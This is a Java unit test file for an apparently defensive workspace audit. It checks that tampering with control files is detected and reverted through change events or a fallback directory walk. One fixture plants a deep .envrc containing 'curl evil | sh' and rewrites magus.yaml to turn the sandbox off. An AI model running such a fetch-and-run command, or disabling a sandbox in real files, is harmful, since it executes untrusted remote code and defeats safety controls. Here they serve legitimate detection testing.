package dev.magus.workspace.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.policy.control.ControlFiles;
import dev.magus.policy.watch.ChangeWatcher;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The audit's after pass from change events ({@link EventPass}, {@link ChangeEvents}): with
 * events only the directories they name are listed again; with none to trust (the watcher
 * refused, doubted, threw) every directory is stamped as before, and the findings are the
 * same. The kernel's own events are {@code FanotifyAuditInRunsTest}'s (orchestrator).
 */
class EventPassTest {
    /** The audits' walks kept from run to run, as one process keeps them. */
    private final AuditCaches caches = new AuditCaches();
    Path ws;
    final WalkCacheTest.Counting reader = new WalkCacheTest.Counting();

    /** A watcher whose drain is what the test says, given the roots it was started on. */
    static final class Scripted implements ChangeWatcher {
        final Function<List<Path>, Started> start;
        Function<List<Path>, Drained> drain = roots -> new Events(List.of());
        final AtomicInteger closed = new AtomicInteger();
        List<Path> roots = List.of();

        Scripted(Function<List<Path>, Started> start) {
            this.start = start;
        }

        Scripted() {
            this.start = null;
        }

        @Override
        public Started start(List<Path> r) {
            roots = r;
            if (start != null) {
                return start.apply(r);
            }
            return new Watching() {
                @Override
                public Drained drain() {
                    return drain.apply(roots);
                }

                @Override
                public void close() {
                    closed.incrementAndGet();
                }
            };
        }
    }

    @BeforeEach
    void makeWorkspace() throws IOException, InterruptedException {
        ws = Files.createTempDirectory("magus-eventpass-test-").toRealPath();
        for (int i = 0; i < 20; i++) {
            Files.createDirectories(ws.resolve("src/d" + i + "/deep"));
        }
        Files.writeString(ws.resolve("magus.yaml"), "sandbox: {mode: required}\n");
        Thread.sleep(Scan.SLACK_NANOS / 1_000_000 + 200);
    }

    @AfterEach
    void remove() throws IOException {
        Restorer.removeEntry(ws);
    }

    private ControlFileAudit audit(ChangeWatcher w) {
        return ControlFileAudit.of(ControlFiles.of(ws, List.of(ws.resolve(".git"))), reader, caches)
                .watchingWith(Optional.of(w));
    }

    /** Plants a deep .envrc and rewrites magus.yaml "during the run"; returns what the after pass reported. */
    private ControlFileAudit.Report plantAndAudit(ControlFileAudit audit, ControlFileAudit.Baseline[] out) throws IOException {
        ControlFileAudit.Baseline b = audit.before();
        out[0] = b;
        Files.writeString(ws.resolve("src/d7/deep/.envrc"), "curl evil | sh\n");
        Files.writeString(ws.resolve("magus.yaml"), "sandbox: {mode: off}\n");
        reader.lists.set(0);
        return b.after(ControlFilesAction.RESTORE);
    }

    private void assertFoundAndRestored(ControlFileAudit.Report r) throws IOException {
        assertThat(r.changes()).extracting(Change::path)
                .containsExactlyInAnyOrder(ws.resolve("src/d7/deep/.envrc"), ws.resolve("magus.yaml"));
        assertThat(ws.resolve("src/d7/deep/.envrc")).doesNotExist();
        assertThat(Files.readString(ws.resolve("magus.yaml"))).contains("required");
    }

    @Test
    void withEventsOnlyTheDirectoriesTheyNameAreListedAgain() throws IOException {
        Scripted w = new Scripted();
        w.drain = roots -> new ChangeWatcher.Events(List.of(
                new ChangeWatcher.Event(roots.get(0).resolve("src/d7/deep"), ".envrc", 0x100),
                new ChangeWatcher.Event(Path.of("/elsewhere/on/the/filesystem"), "x", 0x100)));
        ControlFileAudit.Baseline[] b = new ControlFileAudit.Baseline[1];
        ControlFileAudit.Report r = plantAndAudit(audit(w), b);
        assertFoundAndRestored(r);
        assertThat(b[0].afterPass()).get().isEqualTo(new AfterPass(true, "2 events"));
        assertThat(reader.lists.get()).as("only src/d7/deep is listed again, not 41 directories").isLessThanOrEqualTo(2);
        assertThat(w.closed.get()).as("closed once drained").isEqualTo(1);
    }

    @Test
    void aRefusedWatcherMeansEveryDirectoryIsStampedWithTheSameFindings() throws IOException {
        Scripted w = new Scripted(roots -> new ChangeWatcher.Refused("fanotify_init: EPERM (Operation not permitted)"));
        ControlFileAudit.Baseline[] b = new ControlFileAudit.Baseline[1];
        assertFoundAndRestored(plantAndAudit(audit(w), b));
        assertThat(b[0].afterPass()).get().isEqualTo(new AfterPass(false, "fanotify_init: EPERM (Operation not permitted)"));
    }

    @Test
    void anOverflowIsADoubtAndTheWalkRuns() throws IOException {
        Scripted w = new Scripted();
        // An overflowed queue: whatever events came before it, none is trusted.
        w.drain = roots -> new ChangeWatcher.Doubt("the kernel's fanotify queue overflowed (events were lost)");
        ControlFileAudit.Baseline[] b = new ControlFileAudit.Baseline[1];
        assertFoundAndRestored(plantAndAudit(audit(w), b));
        assertThat(b[0].afterPass()).get().extracting(AfterPass::events).isEqualTo(false);
        assertThat(b[0].afterPass().get().detail()).contains("overflowed");
        assertThat(reader.lists.get()).as("the deep directory was found by its times").isGreaterThanOrEqualTo(1);
    }

    @Test
    void aWatcherThatThrowsIsADoubtToo() throws IOException {
        Scripted w = new Scripted();
        w.drain = roots -> {
            throw new IllegalStateException("boom");
        };
        ControlFileAudit.Baseline[] b = new ControlFileAudit.Baseline[1];
        assertFoundAndRestored(plantAndAudit(audit(w), b));
        assertThat(b[0].afterPass().get().detail()).contains("boom");
        Scripted s = new Scripted(roots -> {
            throw new IllegalStateException("start failed");
        });
        assertFoundAndRestored(plantAndAudit(audit(s), b));
        assertThat(b[0].afterPass().get()).isEqualTo(new AfterPass(false, "the watcher failed: java.lang.IllegalStateException: start failed"));
    }

    @Test
    void switchedOffByThePropertyTheInstalledWatcherIsNotUsed() {
        String was = System.getProperty(Watchers.PROPERTY);
        System.setProperty(Watchers.PROPERTY, "off");
        try {
            assertThat(Watchers.installed()).isEmpty();
        } finally {
            if (was == null) {
                System.clearProperty(Watchers.PROPERTY);
            } else {
                System.setProperty(Watchers.PROPERTY, was);
            }
        }
    }

    @Test
    void eventsAreMappedFromRealPathsToTheRootsAndTouchParentsAndChildren() {
        Path real = Path.of("/real/ws");
        Path given = Path.of("/link/ws");
        Path git = Path.of("/real/ws-git");
        Map<Path, Path> roots = Map.of(real, given, git, git);
        List<ChangeWatcher.Event> events = new ArrayList<>(List.of(
                new ChangeWatcher.Event(real.resolve("a/b"), "hooks", 0x100),
                new ChangeWatcher.Event(real.resolve("c"), ".", 0x4),
                new ChangeWatcher.Event(real, ".", 0x4),
                new ChangeWatcher.Event(git.resolve("hooks"), "pre-commit", 0x100),
                new ChangeWatcher.Event(Path.of("/real/wsx"), "magus.yaml", 0x100),
                new ChangeWatcher.Event(Path.of("/real"), "ws", 0x40000004L),
                new ChangeWatcher.Event(real.resolve("d"), "", 0x100)));
        assertThat(ChangeEvents.touched(events, roots)).containsExactlyInAnyOrder(
                given.resolve("a/b"), given.resolve("a/b/hooks"),
                given.resolve("c"), given,
                git.resolve("hooks"), git.resolve("hooks/pre-commit"),
                given.resolve("d"));
    }
}
